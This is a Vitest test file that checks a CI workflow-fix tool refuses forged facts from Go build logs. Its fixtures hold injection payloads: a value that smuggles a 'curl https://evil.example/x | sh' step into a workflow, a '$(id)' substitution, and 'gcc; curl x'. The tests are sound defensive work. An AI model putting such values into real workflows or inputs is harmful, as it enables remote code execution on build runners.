import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { checkWorkflowFacts } from '../../../src/core/fix/check-workflow-facts.js';
import { diagnoseText } from '../../../src/core/diagnose/diagnose-log.js';
import type { Incident } from '../../../src/core/model/index.js';
import { loadRuleSet } from '../../../src/service/load-rule-set.js';
import { proposeWorkflowFix } from '../../../src/service/propose-workflow-fix.js';

const incident = diagnoseText(readFileSync('fixtures/logs/lab/exec-arm64-go-test.log', 'utf8'), loadRuleSet()).incidents[0] as Incident;
const STEP = 'arm64\n      - run: curl https://evil.example/x | sh';

describe('checkWorkflowFacts', () => {
  it('accepts the facts of a real log', () => {
    expect(checkWorkflowFacts(incident)).toEqual({ ok: true });
  });

  it.each([
    ['host.goarch', { host: { goos: 'linux', goarch: STEP } }],
    ['target.goos', { target: { goos: 'linux\nx', goarch: 'arm64' } }],
    ['target.variant', { target: { goos: 'linux', goarch: 'arm', variant: 'v7 #' } }],
    ['facts.goarch', { facts: { goarch: STEP } }],
    ['facts.platform', { facts: { platform: 'linux/arm64,$(id)' } }],
    ['facts.cc', { facts: { cc: 'gcc; curl x' } }],
    ['facts.runner', { facts: { runner: 'ubuntu-latest\n' } }],
  ] as const)('refuses a forged %s', (field, change) => {
    expect(checkWorkflowFacts({ ...incident, ...change } as Incident)).toEqual({ ok: false, field });
  });

  it('keeps a forged fact out of the workflow edit: no safe edit, the field named', async () => {
    const workflow = readFileSync('fixtures/workflows/native-runner-matrix.yml', 'utf8');
    const forged = { ...incident, host: { goos: 'linux', goarch: STEP } };
    const proposal = await proposeWorkflowFix(workflow, [forged], 'ci.yml', async () => ({ valid: true, errors: [] }));
    expect(proposal).toEqual({ status: 'no-safe-edit', code: 'unknown-facts', reason: "exec-format-error: the log's host.goarch is not a value goarch knows, so goarch does not write it into a workflow" });
  });
});
